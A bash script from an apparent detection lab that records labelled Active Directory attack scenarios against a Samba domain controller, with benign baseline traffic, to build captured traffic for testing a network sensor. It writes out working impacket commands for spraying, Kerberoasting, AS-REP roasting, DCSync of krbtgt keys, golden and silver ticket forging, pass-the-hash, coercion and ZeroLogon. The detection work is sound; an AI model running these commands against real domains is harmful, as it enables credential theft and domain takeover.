# shellcheck shell=bash
# Labelled scenarios.  Each scenario is recorded to its own pcap on the recorder's SPAN
# port (netns dt-sensor, dt-rec0) while tap-sensor, when running, watches the other SPAN
# port with XDP; every step is logged with its time window, source IP, account, technique
# and MITRE id in $OUT/steps.jsonl.  Sourced by lab.sh.

PCAPS=$OUT/pcaps
JSONL="$VENV/bin/python3 $LAB/tools/jsonl.py"

now_iso() { date -u +%Y-%m-%dT%H:%M:%S.%3NZ; }
now_ep()  { date +%s.%3N; }

# ---- capture on the recorder port ----------------------------------------------------
cap_start() {  # cap_start <file.pcap>
  rm -f "$1" "$RUN/tcpdump.err"
  # -U: write each packet at once; -s 0: full frames; -n: no lookups
  nohup ip netns exec "$NS_SEN" tcpdump -i "$REC_IF" -s 0 -U -n -w "$1" \
      > /dev/null 2> "$RUN/tcpdump.err" < /dev/null &
  echo $! > "$RUN/tcpdump.pid"
  local i
  for i in $(seq 1 50); do grep -q "listening on" "$RUN/tcpdump.err" 2>/dev/null && return 0; sleep 0.1; done
  die "tcpdump did not start: $(cat "$RUN/tcpdump.err")"
}
cap_stop() {
  local pid; pid=$(cat "$RUN/tcpdump.pid" 2>/dev/null) || return 0
  kill -INT "$pid" 2>/dev/null
  for _ in $(seq 1 50); do kill -0 "$pid" 2>/dev/null || break; sleep 0.1; done
  kill_pidfile "$RUN/tcpdump.pid"
}

# ---- scenario / step bookkeeping -----------------------------------------------------
# scenario <key> <title> <function> [<prepare function, run before recording>]
scenario() {
  local key=$1 title=$2 fn=$3 prep=${4:-}
  SC_KEY=$key; SC_N=0
  SC_LOGDIR=$LOGS/scenarios/$key; rm -rf "$SC_LOGDIR"; mkdir -p "$SC_LOGDIR" "$PCAPS"
  local pcap=$PCAPS/$key.pcap
  log "=== scenario $key: $title"
  local f; for f in "$OUT/scenarios.jsonl" "$OUT/steps.jsonl"; do
    [ -f "$f" ] && { grep -v -F -e "\"key\": \"$key\"" -e "\"scenario\": \"$key\"" "$f" > "$f.tmp"; mv "$f.tmp" "$f"; }
  done
  # every scenario starts with no cached tickets
  rm -f "$CLDIR"/ccache* "$CLDIR"/loot/*.ccache
  if [ -n "$prep" ]; then ( cd "$CLDIR/loot" && "$prep" ) || log "prepare step $prep failed"; fi
  cap_start "$pcap"
  local t0 t0e; t0=$(now_iso); t0e=$(now_ep)
  sleep 1
  ( cd "$CLDIR/loot" && "$fn" )
  sleep 2                       # trailing packets (FIN/ACK)
  cap_stop
  $JSONL "$OUT/scenarios.jsonl" key="$key" title="$title" pcap="lab/pcaps/$key.pcap" \
      start="$t0" end="$(now_iso)" start_epoch:n="$t0e" end_epoch:n="$(now_ep)" dc_ip="$DC_IP"
}

# [SRC=<ip>] step <id> <account> <technique> <mitre> <expect-regex|-> <note> -- cmd...
#   SRC       source address of the step (default client 1)
#   account   identity the client side uses ("-" for none)
#   expect    regex looked for in the tool output -> "expect_matched"
step() {
  local id=$1 acct=$2 tech=$3 mitre=$4 expect=$5 note=$6; shift 6
  [ "$1" = "--" ] && shift
  SC_N=$((SC_N+1))
  local lf; lf=$SC_LOGDIR/$(printf '%02d' $SC_N)_$id.log
  local t0 t0e rc t1 t1e m=false cmd src=${SRC:-$CL_IP}
  if [ "$1" = bash ] && [ "$2" = -c ]; then cmd=$3; else cmd="$*"; fi
  t0=$(now_iso); t0e=$(now_ep)
  timeout 120 bash -c '"$@"' step "$@" > "$lf" 2>&1 < /dev/null; rc=$?
  t1=$(now_iso); t1e=$(now_ep)
  if [ "$expect" != "-" ] && grep -Eq -- "$expect" "$lf"; then m=true; fi
  [ "$expect" = "-" ] && m=na
  $JSONL "$OUT/steps.jsonl" scenario="$SC_KEY" step="$id" seq:n=$SC_N \
      start="$t0" end="$t1" start_epoch:n="$t0e" end_epoch:n="$t1e" \
      src_ip="$src" dst_ip="$DC_IP" account="$acct" technique="$tech" \
      mitre="$mitre" note="$note" command="$cmd" rc:n=$rc \
      expect="$expect" expect_matched="$m"
  printf '[lab]    %-28s from %-11s rc=%-3s expect=%s\n' "$id" "$src" "$rc" "$m" >&2
  sleep 0.5
  return 0
}

pw() { local s n p r; for s in "${LAB_USERS[@]}"; do IFS=: read -r n p r <<<"$s"; [ "$n" = "$1" ] && { echo "$p"; return; }; done; }
nthash() { "$VENV/bin/python3" -c 'import sys; from impacket.ntlm import compute_nthash; print(compute_nthash(sys.argv[1]).hex())' "$1"; }

kinit_wrong() {  # kinit_wrong <user> <password>...
  local u=$1; shift; local p
  for p in "$@"; do printf '%s\n' "$p" | KRB5CCNAME=$CLDIR/ccache.spray client kinit "$u@$REALM" 2>&1 | tail -1; done
}
smb_wrong() {    # smb_wrong <user> <password>...   (NTLMSSP over SMB2)
  local u=$1; shift; local p
  for p in "$@"; do smbc smbclient -L "//$DC_FQDN" -U "$DOMAIN/$u%$p" --use-kerberos=disabled 2>&1 | tail -1; done
}
imp_wrong() {    # imp_wrong <password> <user>...  (impacket AS-REQ, wrong password)
  local p=$1; shift; local u
  for u in "$@"; do imp getTGT.py -dc-ip $DC_IP "$DNSDOMAIN/$u:$p" 2>&1 | tail -1; done
}
imp_smb_wrong() { # imp_smb_wrong <password> <user>... (impacket NTLM over SMB)
  local p=$1; shift; local u
  printf 'exit\n' > "$CLDIR/loot/exit.txt"
  for u in "$@"; do imp smbclient.py -inputfile "$CLDIR/loot/exit.txt" "$DNSDOMAIN/$u:$p@$DC_IP" 2>&1 | tail -1; done
}

# ======================================================================================
# benign: normal logons, service tickets, SMB, LDAP, DNS, from both workstations
sc_normal() {
  step kinit_alice alice "AS exchange, password (ENC-TS pre-authentication)" - "Default principal: alice" \
       "benign: correct password" -- \
       bash -c "printf '%s\n' '$(pw alice)' | client kinit alice@$REALM && client klist"
  step tgs_cifs_ldap alice "TGS-REQ cifs/ ldap/ host/ (AES)" - "kvno = 1" "benign service tickets" -- \
       client kvno cifs/$DC_FQDN ldap/$DC_FQDN host/$DC_FQDN
  step smb_list_krb alice "SMB2 Kerberos session, share listing" - "netlogon" \
       "benign: smbclient -L + ls netlogon (Kerberos)" -- \
       bash -c "smbc smbclient -L //$DC_FQDN --use-kerberos=required; smbc smbclient //$DC_FQDN/netlogon --use-kerberos=required -c ls"
  step smb_sysvol_ntlm bob "SMB2 NTLMv2 session, sysvol listing" - "$DNSDOMAIN" \
       "benign NTLM logon (bob, correct password)" -- \
       smbc smbclient //$DC_FQDN/sysvol -U "$DOMAIN/bob%$(pw bob)" --use-kerberos=disabled -c ls
  step ldap_gssapi alice "LDAP SASL/GSSAPI bind + search of own account" - "numEntries: 1" \
       "benign directory lookup" -- \
       client ldapsearch -Q -Y GSSAPI -H ldap://$DC_FQDN -b "$BASEDN" "(sAMAccountName=alice)" cn memberOf
  step ldaps_simple bob "LDAPS (TLS) simple bind + search" - "numEntries: 1" \
       "benign simple bind protected by TLS (636)" -- \
       client ldapsearch -x -H ldaps://$DC_FQDN -D "bob@$DNSDOMAIN" -w "$(pw bob)" -b "$BASEDN" "(sAMAccountName=bob)" cn
  step dns_locator - "DC locator lookups (SRV/A/SOA)" - "$DC_FQDN" "benign" -- \
       bash -c "for q in '_ldap._tcp.$DNSDOMAIN SRV' '_kerberos._udp.$DNSDOMAIN SRV' '_ldap._tcp.dc._msdcs.$DNSDOMAIN SRV' '_gc._tcp.$DNSDOMAIN SRV' '$DC_FQDN A' '$DNSDOMAIN SOA'; do client dig +noall +answer @$DC_IP \$q; done"
  SRC=$CL2_IP step kinit_carol_ws02 carol "AS exchange from the second workstation" - "Default principal: carol" \
       "benign second user on WS02" -- \
       bash -c "export KRB5CCNAME=$CLDIR/ccache.carol; printf '%s\n' '$(pw carol)' | client2 kinit carol@$REALM && client2 klist"
  SRC=$CL2_IP step carol_smb_ws02 carol "TGS cifs + SMB2 Kerberos from WS02" - "netlogon" "benign" -- \
       bash -c "KRB5CCNAME=$CLDIR/ccache.carol smbc2 smbclient -L //$DC_FQDN --use-kerberos=required"
}

# password spraying / brute force (Kerberos + NTLM)
sc_spray() {
  local spray='Winter2024!'
  step krb_spray_mit "alice,bob,carol,svc_sql,eve.admin" "Kerberos password spray (1 password x 5 users)" T1110.003 \
       "Password incorrect" "5 x KDC_ERR_PREAUTH_FAILED" -- \
       bash -c "for u in alice bob carol svc_sql eve.admin; do kinit_wrong \$u '$spray'; done"
  step krb_brute_bob bob "Kerberos brute force (10 passwords x bob)" T1110.001 \
       "Password incorrect" "10 x KDC_ERR_PREAUTH_FAILED" -- \
       bash -c "kinit_wrong bob \$(cat $CLDIR/passwords.txt)"
  step ntlm_brute_smb carol "NTLM brute force over SMB2 (smbclient)" T1110.001 \
       "NT_STATUS_LOGON_FAILURE" "10 x STATUS_LOGON_FAILURE" -- \
       bash -c "smb_wrong carol \$(cat $CLDIR/passwords.txt)"
  step ntlm_spray_impacket "alice,bob,svc_sql,eve.admin,Administrator" "NTLM spray over SMB (impacket)" T1110.003 \
       "STATUS_LOGON_FAILURE" "5 x STATUS_LOGON_FAILURE" -- \
       bash -c "imp_smb_wrong 'Welcome1!' alice bob svc_sql eve.admin Administrator"
}

# Kerberoasting
sc_kerberoast() {
  step getuserspns_stock alice "Kerberoast: impacket GetUserSPNs -request (unmodified)" T1558.003 \
       'krb5tgs\$23\$' "LDAP SPN query + TGS-REQ (RC4); Samba answers KRB_AP_ERR_INAPP_CKSUM (impacket sends no authenticator checksum): fails, the requests are on the wire" -- \
       imp GetUserSPNs.py -request -dc-ip $DC_IP "$DNSDOMAIN/alice:$(pw alice)"
  step getuserspns_shim alice "Kerberoast: GetUserSPNs -request -usersfile (Samba shim)" T1558.003 \
       'krb5tgs\$23\$' "TGS-REQ etype 23 only for svc_sql -> TGS-REP with an RC4 ticket" -- \
       bash -c "echo svc_sql > spn_targets.txt; impfix GetUserSPNs.py -request -usersfile spn_targets.txt -outputfile kerberoast.hashes -dc-ip $DC_IP '$DNSDOMAIN/alice:$(pw alice)'; test -s kerberoast.hashes && echo 'krb5tgs\$23\$ written'"
  step kvno_rc4_spn alice "Kerberoast (Rubeus-style): TGS-REQ for the SPN, RC4 only" T1558.003 \
       "kvno = " "MIT kvno -e rc4-hmac" -- \
       bash -c "printf '%s\n' '$(pw alice)' | client kinit alice@$REALM >/dev/null && client kvno -e rc4-hmac '$SPN_SVC'"
}

# AS-REP roasting
sc_asrep() {
  step getnpusers_list "-" "AS-REP roast: AS-REQs without pre-authentication for a user list" T1558.004 \
       'krb5asrep\$23\$dave' "AS-REP (RC4) only for dave (DONT_REQ_PREAUTH); others PREAUTH_REQUIRED" -- \
       imp GetNPUsers.py -no-pass -usersfile "$CLDIR/users.txt" -format hashcat -outputfile asrep.hashes -dc-ip $DC_IP "$DNSDOMAIN/"
}

# LDAP reconnaissance
sc_ldap_recon() {
  step kinit_alice alice "operator logon before recon" - "Default principal: alice" "" -- \
       bash -c "printf '%s\n' '$(pw alice)' | client kinit alice@$REALM && client klist"
  local L="client ldapsearch -Q -Y GSSAPI -H ldap://$DC_FQDN -b $BASEDN -E pr=500/noprompt"
  step ldap_enum_gssapi alice "LDAP enumeration over sealed GSSAPI (users, groups, admins, SPNs)" T1087.002 "numEntries" \
       "SASL-sealed: the sensor sees the bind, not the filters" -- \
       bash -c "$L '(&(objectCategory=person)(objectClass=user))' sAMAccountName; $L '(objectClass=group)' cn; $L '(adminCount=1)' sAMAccountName"
  step getadusers alice "impacket GetADUsers -all (LDAP, NTLM bind)" T1087.002 "eve.admin" "" -- \
       imp GetADUsers.py -all -dc-ip $DC_IP "$DNSDOMAIN/alice:$(pw alice)"
  step ldapdomaindump_simple alice "ldapdomaindump full dump (cleartext simple bind)" T1087.002 "Domain dump finished" \
       "users, groups, computers, trusts, policy in clear LDAP" -- \
       imp ldapdomaindump -at SIMPLE -u "$DOMAIN\\alice" -p "$(pw alice)" -o ldd ldap://$DC_IP
}

# SAMR / LSARPC reconnaissance
sc_rpc_recon() {
  step samrdump alice "SAMR user enumeration (impacket samrdump, SMB3-encrypted)" T1087.002 "Received .* entries" \
       "impacket encrypts SMB 3: only the session setup is readable" -- \
       imp samrdump.py "$DNSDOMAIN/alice:$(pw alice)@$DC_IP"
  step rpcclient_enum alice "rpcclient enumdomusers/enumdomgroups/querygroupmem/lsaquery" T1087.002 "eve.admin" \
       "rpcclient signs but does not encrypt: SAMR/LSARPC calls readable" -- \
       smbc rpcclient -U "$DOMAIN/alice%$(pw alice)" -c "enumdomusers;enumdomgroups;querygroupmem 0x200;lsaquery;lookupnames administrator" $DC_FQDN
}

# DNS: zone transfer attempts and host name brute force
sc_dns() {
  step axfr_domain - "DNS zone transfer attempt (AXFR $DNSDOMAIN)" T1590.002 "XFR size|SOA" \
       "Samba answers NOERROR with only the SOA" -- \
       client dig +time=3 +tries=1 @$DC_IP $DNSDOMAIN AXFR
  step dns_brute - "DNS host name brute force (NXDOMAIN burst)" T1590.002 - "12 names" -- \
       bash -c "for h in www mail vpn sql01 files backup web dev intranet adfs pki wsus; do client dig +short +time=2 +tries=1 @$DC_IP \$h.$DNSDOMAIN A; done"
}

# DCSync: replication of the krbtgt secrets by a Domain Admin from a workstation
sc_dcsync() {
  step secretsdump_stock eve.admin "DCSync: impacket secretsdump -just-dc-user krbtgt (unmodified)" T1003.006 \
       "krbtgt:" "DRSUAPI over TCP (EPM); Samba refuses impacket's prefix table (DRSR SessionError): DRSBind + DRSGetNCChanges are on the wire" -- \
       imp secretsdump.py -just-dc-user "$DOMAIN/krbtgt" "$DNSDOMAIN/eve.admin:$(pw eve.admin)@$DC_IP"
  step secretsdump_shim eve.admin "DCSync: secretsdump -just-dc-user DOMAIN/krbtgt (Samba shim)" T1003.006 \
       "krbtgt:aes256" "krbtgt NT hash and AES keys replicated (kept in the lab's state folder, never in git); the user is given as DCTAP/krbtgt because Samba's DRSCrackNames does not take impacket's default name format" -- \
       bash -c "impfix secretsdump.py -just-dc-user '$DOMAIN/krbtgt' -outputfile $CLDIR/loot/dcsync '$DNSDOMAIN/eve.admin:$(pw eve.admin)@$DC_IP' | sed -E 's/[0-9a-f]{32,}/<hash>/g'"
}
dcsync_dc_quiet() {  # prepare step: the DC's machine account keys for the silver ticket
  [ -s "$CLDIR/loot/dcsync-dc.ntds" ] && return 0
  impfix secretsdump.py -just-dc-user "$DOMAIN/${DC_NAME^^}\$" -outputfile "$CLDIR/loot/dcsync-dc" \
      "$DNSDOMAIN/eve.admin:$(pw eve.admin)@$DC_IP" > "$LOGS/dcsync-dc-prepare.log" 2>&1
}

# Silver ticket: a service ticket for the DC's CIFS forged with the DC's machine key
# (replicated before the recording) and presented to the DC over SMB
sc_silver() {
  local sid nt
  sid=$(cat "$OUT/domain_sid.txt")
  nt=$(awk -F: -v a="${DC_NAME^^}\$" '$1 == a {print $4}' "$CLDIR/loot/dcsync-dc.ntds" 2>/dev/null)
  step forge_silver Administrator "ticketer.py -spn cifs/$DC_FQDN: a service ticket forged with the DC's NT hash (offline)" T1558.002 \
       "Saving ticket" "no traffic: the ticket is made on WS01" -- \
       imp ticketer.py -nthash "$nt" -domain-sid "$sid" -domain $DNSDOMAIN -spn cifs/$DC_FQDN -user-id 500 Administrator
  printf 'shares\nexit\n' > "$CLDIR/loot/shares.txt"
  step silver_smb Administrator "the forged ticket presented to the DC over SMB (impacket smbclient.py -k -no-pass)" T1558.002 - \
       "an AP-REQ with a ticket no KDC issued; Samba cannot parse impacket's PAC and refuses it" -- \
       bash -c "IMP_CC=$CLDIR/loot/Administrator.ccache impfix smbclient.py -k -no-pass -inputfile $CLDIR/loot/shares.txt $DNSDOMAIN/Administrator@$DC_FQDN"
}

dcsync_quiet() {  # prepare step: the krbtgt keys for the golden ticket, if not replicated yet
  [ -s "$CLDIR/loot/dcsync.ntds.kerberos" ] && return 0
  impfix secretsdump.py -just-dc-user "$DOMAIN/krbtgt" -outputfile "$CLDIR/loot/dcsync" \
      "$DNSDOMAIN/eve.admin:$(pw eve.admin)@$DC_IP" > "$LOGS/dcsync-prepare.log" 2>&1
}

# Pass-the-hash: eve.admin logs on normally from WS01; her NT hash is used from WS02
sc_pth() {
  step eve_normal_ws01 eve.admin "normal NTLM logon from her own workstation (baseline)" - "$DNSDOMAIN" \
       "benign part: password, SMB2 NTLMv2, sysvol listing" -- \
       smbc smbclient //$DC_FQDN/sysvol -U "$DOMAIN/eve.admin%$(pw eve.admin)" --use-kerberos=disabled -c ls
  printf 'shares\nexit\n' > "$CLDIR/loot/shares.txt"
  sleep 3   # the hash is used later, after a learning period of a few seconds has ended
  SRC=$CL2_IP step pth_smbclient_ws02 eve.admin "pass-the-hash: impacket smbclient.py -hashes (NTLM over SMB) from WS02" T1550.002 \
       "SYSVOL|NETLOGON|IPC" "NTLMv2 session setup computed from the NT hash, no password" -- \
       imp2 smbclient.py -hashes ":$(nthash "$(pw eve.admin)")" -inputfile "$CLDIR/loot/shares.txt" "$DNSDOMAIN/eve.admin@$DC_IP"
  SRC=$CL2_IP step pth_lookupsid_ws02 eve.admin "pass-the-hash: impacket lookupsid.py -hashes from WS02" T1550.002 \
       "Domain Admins" "a second NTLM logon with the hash (LSARPC inside SMB3 encryption)" -- \
       imp2 lookupsid.py -hashes ":$(nthash "$(pw eve.admin)")" "$DNSDOMAIN/eve.admin@$DC_IP" 600
}

# Overpass-the-hash: a TGT requested with bob's NT hash (RC4 pre-authentication), then used
sc_opth() {
  SRC=$CL2_IP step gettgt_hash bob "overpass-the-hash: impacket getTGT.py -hashes (RC4 AS-REQ)" T1550.002 \
       "Saving ticket" "AS-REQ offering only RC4 with RC4 ENC-TIMESTAMP" -- \
       impfix2 getTGT.py -hashes ":$(nthash "$(pw bob)")" -dc-ip $DC_IP "$DNSDOMAIN/bob"
  SRC=$CL2_IP step use_tgt_smb bob "the hash-derived TGT used: TGS-REQ cifs/dc1 and SMB (MIT kvno, smbclient -k)" T1550.002 \
       "kvno = " "the TGS-REQ succeeds; impacket's own SMB Kerberos logon is refused by Samba (STATUS_LOGON_FAILURE) and smbclient does not take the impacket-written ccache for SMB (no suitable mechtype)" -- \
       bash -c "export KRB5CCNAME=$CLDIR/loot/bob.ccache; client2 kvno cifs/$DC_FQDN; smbc2 smbclient -L //$DC_FQDN --use-kerberos=required"
}

# Pass-the-ticket: carol's TGT from WS01, its ccache copied to WS02 and used there
sc_ptt() {
  step carol_tgt_ws01 carol "carol logs on at WS01 (TGT) and uses a service" - "kvno = " \
       "benign part: the TGT is issued to 10.78.0.20" -- \
       bash -c "export KRB5CCNAME=$CLDIR/loot/carol.ccache; printf '%s\n' '$(pw carol)' | client kinit carol@$REALM && client kvno cifs/$DC_FQDN"
  SRC=$CL2_IP step ptt_ws02 carol "pass-the-ticket: carol's ccache used from WS02 (TGS-REQs)" T1550.003 \
       "kvno = " "the same TGT presented from 10.78.0.21: TGS-REQ ldap/ and host/, then SMB" -- \
       bash -c "export KRB5CCNAME=$CLDIR/loot/carol.ccache; client2 kvno ldap/$DC_FQDN host/$DC_FQDN && smbc2 smbclient -L //$DC_FQDN --use-kerberos=required"
}

# Golden ticket: a TGT forged with the krbtgt key from DCSync, presented in TGS-REQs
sc_golden() {
  local sid aes nt
  sid=$(cat "$OUT/domain_sid.txt")
  aes=$(awk -F: '/^krbtgt:aes256-cts-hmac-sha1-96:/{print $3}' "$CLDIR/loot/dcsync.ntds.kerberos" 2>/dev/null)
  nt=$(awk -F: '/^krbtgt:/{print $4}' "$CLDIR/loot/dcsync.ntds" 2>/dev/null)
  step forge_admin "Administrator" "ticketer.py: forge a TGT for Administrator (krbtgt AES key; offline)" T1558.001 \
       "Saving ticket" "no traffic: the ticket is made on WS01" -- \
       imp ticketer.py -aesKey "$aes" -domain-sid "$sid" -domain $DNSDOMAIN -user-id 500 Administrator
  step golden_tgs_mit Administrator "golden ticket: TGS-REQ cifs/ and ldap/ with the forged TGT (MIT kvno)" T1558.001 \
       "kvno = " "a TGT no KDC issued, presented to the KDC; Samba decrypts it with the krbtgt key but cannot parse the PAC impacket builds (can't parse the PAC LOGON_INFO) and answers KRB-ERROR: the TGS-REQs are on the wire" -- \
       bash -c "KRB5CCNAME=$CLDIR/loot/Administrator.ccache client kvno cifs/$DC_FQDN ldap/$DC_FQDN"
  step golden_smb Administrator "golden ticket: SMB as Administrator (smbclient -k with the forged ccache)" T1558.001 \
       "netlogon" "fails like the step before: another TGS-REQ with the forged TGT" -- \
       bash -c "KRB5CCNAME=$CLDIR/loot/Administrator.ccache smbc smbclient -L //$DC_FQDN --use-kerberos=required"
  step forge_ghost "ghost.admin" "ticketer.py: forge an RC4 TGT for a nonexistent account (krbtgt NT hash)" T1558.001 \
       "Saving ticket" "no traffic" -- \
       imp ticketer.py -nthash "$nt" -domain-sid "$sid" -domain $DNSDOMAIN -user-id 1337 ghost.admin
  step golden_ghost_tgs "ghost.admin" "golden ticket for a nonexistent account: TGS-REQ with the RC4 forged TGT" T1558.001 \
       - "the KDC may refuse the unknown client; the TGS-REQ is on the wire" -- \
       bash -c "KRB5CCNAME=$CLDIR/loot/ghost.admin.ccache client kvno cifs/$DC_FQDN"
}

# Honeytoken: the decoy account hr.backup (nobody's) logs on
sc_honeytoken() {
  step honey_kinit "$HONEYTOKEN" "honeytoken logon: kinit + service ticket" T1078 "kvno = " \
       "any use of the account is an alert" -- \
       bash -c "export KRB5CCNAME=$CLDIR/ccache.honey; printf '%s\n' '$(pw $HONEYTOKEN)' | client kinit $HONEYTOKEN@$REALM && client kvno cifs/$DC_FQDN"
  step honey_ntlm "$HONEYTOKEN" "honeytoken logon: NTLM over SMB2" T1078 "$DNSDOMAIN" "" -- \
       smbc smbclient //$DC_FQDN/sysvol -U "$DOMAIN/$HONEYTOKEN%$(pw $HONEYTOKEN)" --use-kerberos=disabled -c ls
}

# Account enumeration: AS-REQs for many names, most of which do not exist (kerbrute-style)
sc_enum() {
  step asreq_userenum "-" "account enumeration: AS-REQs without pre-auth for 17 names (impacket GetNPUsers)" T1087.002 \
       "doesn't exist|not found" "15 x KDC_ERR_C_PRINCIPAL_UNKNOWN, alice/bob PREAUTH_REQUIRED" -- \
       imp GetNPUsers.py -no-pass -usersfile "$CLDIR/enum_users.txt" -dc-ip $DC_IP "$DNSDOMAIN/"
  step kinit_userenum "-" "account enumeration: MIT kinit for unknown names" T1087.002 \
       "not found" "5 x KDC_ERR_C_PRINCIPAL_UNKNOWN" -- \
       bash -c "for u in jwilson kbrown lgarcia mmiller nthomas; do kinit_wrong \$u 'x'; done"
}

# Forced authentication: EFSRPC (PetitPotam) and the print spooler (printer bug)
sc_coerce() {
  step efsrpc_smb3 alice "EfsRpcOpenFileRaw over \\pipe\\efsrpc and \\pipe\\lsarpc (SMB 3, as PetitPotam)" T1187 \
       "sent" "impacket encrypts SMB 3: nothing past the session setup is readable; Samba has no EFSRPC" -- \
       imptool coerce.py -u alice -p "$(pw alice)" -d $DNSDOMAIN --listener $CL_IP --dialect 3 efsrpc $DC_IP
  step efsrpc_smb21 alice "EfsRpcOpenFileRaw over \\pipe\\efsrpc and \\pipe\\lsarpc (SMB 2.1, readable)" T1187 \
       "sent" "SMB 2.1 has no encryption; Samba rejects the EFSRPC interface, the request is sent anyway" -- \
       imptool coerce.py -u alice -p "$(pw alice)" -d $DNSDOMAIN --listener $CL_IP --dialect 2.1 efsrpc $DC_IP
  step spoolss_smb21 alice "RpcRemoteFindFirstPrinterChangeNotificationEx (printer bug, SMB 2.1)" T1187 \
       "sent" "RpcOpenPrinter(\\\\dc1) then the change notification pointing at WS01" -- \
       imptool coerce.py -u alice -p "$(pw alice)" -d $DNSDOMAIN --listener $CL_IP --dialect 2.1 spoolss $DC_IP
}

# Remote execution on the DC: service control manager and task scheduler
sc_remote_exec() {
  step services_create_stock eve.admin "impacket services.py create (SVCCTL, SMB 3 encrypted)" T1569.002 \
       "." "impacket encrypts SMB 3: the calls are not readable" -- \
       imp services.py "$DNSDOMAIN/eve.admin:$(pw eve.admin)@$DC_IP" create -name dctapsvc -display dctapsvc -path 'C:\\Windows\\System32\\cmd.exe /c whoami'
  step services_create_smb21 eve.admin "impacket services.py create + start (SVCCTL over SMB 2.1)" T1569.002 \
       "." "the lab shim makes impacket negotiate SMB 2.1 (no encryption); Samba's SVCCTL refuses to create services" -- \
       bash -c "DCTAP_SMB_DIALECT=2.1 impfix services.py '$DNSDOMAIN/eve.admin:$(pw eve.admin)@$DC_IP' create -name dctapsvc -display dctapsvc -path 'C:\\Windows\\System32\\cmd.exe /c whoami'; DCTAP_SMB_DIALECT=2.1 impfix services.py '$DNSDOMAIN/eve.admin:$(pw eve.admin)@$DC_IP' start -name dctapsvc"
  step atexec_smb21 eve.admin "impacket atexec.py (task scheduler over \\pipe\\atsvc, SMB 2.1)" T1053.005 \
       "." "Samba has no task scheduler: the pipe open fails" -- \
       bash -c "DCTAP_SMB_DIALECT=2.1 impfix atexec.py '$DNSDOMAIN/eve.admin:$(pw eve.admin)@$DC_IP' whoami"
  step atsvc_jobadd_smb21 eve.admin "ATSVC NetrJobAdd (lab script, SMB 2.1)" T1053.002 \
       "sent" "the at-service call over \\pipe\\atsvc, sent even if the pipe is missing" -- \
       imptool coerce.py -u eve.admin -p "$(pw eve.admin)" -d $DNSDOMAIN --listener $CL_IP --dialect 2.1 atsvc $DC_IP
}

# ZeroLogon attempt: NetrServerAuthenticate3 with zero credentials, repeated
sc_zerologon() {
  step zerologon_attempts "DC1\$" "ZeroLogon: 30 x NetrServerReqChallenge + NetrServerAuthenticate3 with zero credentials" T1210 \
       "attempts" "unauthenticated Netlogon over TCP (EPM); Samba is patched and refuses every attempt" -- \
       imptool zerologon.py ${DC_NAME^^} $DC_IP 30
}

# DCShadow (partial): the DRSUAPI calls a rogue DC makes, from a workstation
sc_dcshadow() {
  step drs_addentry_replicaadd eve.admin "DCShadow calls: DRSBind, DRSAddEntry, DRSReplicaAdd from a non-DC" T1207 \
       "sent" "only the calls: a full DCShadow (registering a rogue DC and serving replication) needs mimikatz on Windows; the stubs are sealed and Samba refuses them" -- \
       imptool dcshadow.py "$DNSDOMAIN/eve.admin:$(pw eve.admin)" $DC_IP
}

# benign busy hours: many users at once, service tickets for a service account without AES
# keys (msDS-SupportedEncryptionTypes unset: the KDC answers clients that offer AES with
# RC4 tickets), the DC's own services, SMB with Kerberos and NTLM, LDAP, DNS, an RPC
# application over NTLM, and a few password typos (each user on their own workstation).
sc_busy() {
  local u
  for u in alice bob; do
    step "kinit_$u" $u "logon with one typo first" - "Default principal: $u" "benign: a typo, then the password" -- \
         bash -c "export KRB5CCNAME=$CLDIR/ccache.$u; kinit_wrong $u 'Typo#$u'; printf '%s\n' '$(pw $u)' | client kinit $u@$REALM && client klist"
    step "tgs_$u" $u "service tickets: the DC's services and the SQL service (RC4-only account)" - "kvno = " \
         "benign: AES offered, RC4 ticket for MSSQLSvc" -- \
         bash -c "export KRB5CCNAME=$CLDIR/ccache.$u; client kvno cifs/$DC_FQDN ldap/$DC_FQDN host/$DC_FQDN '$SPN_SVC'"
  done
  for u in carol eve.admin; do
    SRC=$CL2_IP step "kinit_$u" $u "logon from WS02" - "kvno = " "benign" -- \
         bash -c "export KRB5CCNAME=$CLDIR/ccache.$u; printf '%s\n' '$(pw $u)' | client2 kinit $u@$REALM && client2 kvno '$SPN_SVC' cifs/$DC_FQDN"
  done
  SRC=$CL2_IP step typo_carol carol "a mistyped password on WS02" - "Password incorrect" "benign typo" -- \
       bash -c "CL_NS=$NS_CL2 kinit_wrong carol 'Carol#Typo'"
  step smb_krb_alice alice "SMB2 Kerberos: share list and netlogon" - "netlogon" "benign" -- \
       bash -c "export KRB5CCNAME=$CLDIR/ccache.alice; smbc smbclient -L //$DC_FQDN --use-kerberos=required; smbc smbclient //$DC_FQDN/netlogon --use-kerberos=required -c ls"
  SRC=$CL2_IP step smb_krb_eve eve.admin "SMB2 Kerberos: sysvol from WS02" - "$DNSDOMAIN" "benign admin" -- \
       bash -c "KRB5CCNAME=$CLDIR/ccache.eve.admin smbc2 smbclient //$DC_FQDN/sysvol --use-kerberos=required -c ls"
  step smb_ntlm_bob bob "an application logging on with NTLM (SMB2)" - "$DNSDOMAIN" "benign NTLM" -- \
       smbc smbclient //$DC_FQDN/sysvol -U "$DOMAIN/bob%$(pw bob)" --use-kerberos=disabled -c ls
  SRC=$CL2_IP step rpc_ntlm_carol carol "an RPC application over NTLM (srvsvc server info)" - "platform_id" "benign" -- \
       smbc2 rpcclient -U "$DOMAIN/carol%$(pw carol)" --use-kerberos=disabled -c srvinfo $DC_FQDN
  step ldap_gssapi_alice alice "LDAP GSSAPI lookups of one's own account and groups" - "numEntries" "benign" -- \
       bash -c "export KRB5CCNAME=$CLDIR/ccache.alice; client ldapsearch -Q -Y GSSAPI -H ldap://$DC_FQDN -b '$BASEDN' '(sAMAccountName=alice)' memberOf"
  step ldaps_bob bob "LDAPS simple bind (TLS)" - "numEntries" "benign" -- \
       client ldapsearch -x -H ldaps://$DC_FQDN -D "bob@$DNSDOMAIN" -w "$(pw bob)" -b "$BASEDN" "(sAMAccountName=bob)" cn
  step dns_busy - "DC locator and host lookups" - "$DC_FQDN" "benign" -- \
       bash -c "for q in '_ldap._tcp.dc._msdcs.$DNSDOMAIN SRV' '_kerberos._tcp.$DNSDOMAIN SRV' '$DC_FQDN A' 'sql01.$DNSDOMAIN A'; do client dig +noall +answer @$DC_IP \$q; done"
}

# a second domain controller joins the domain and starts (legitimate: must raise no
# DCSync or DCShadow, at most a new-DC notice)
sc_promotion() {
  SRC=$DC2_IP step join_dc2 Administrator "samba-tool domain join DC: DRSAddEntry, full replication, DsReplicaUpdateRefs" - \
       "Joined domain" "legitimate promotion of $DC2_FQDN" -- dc2_join
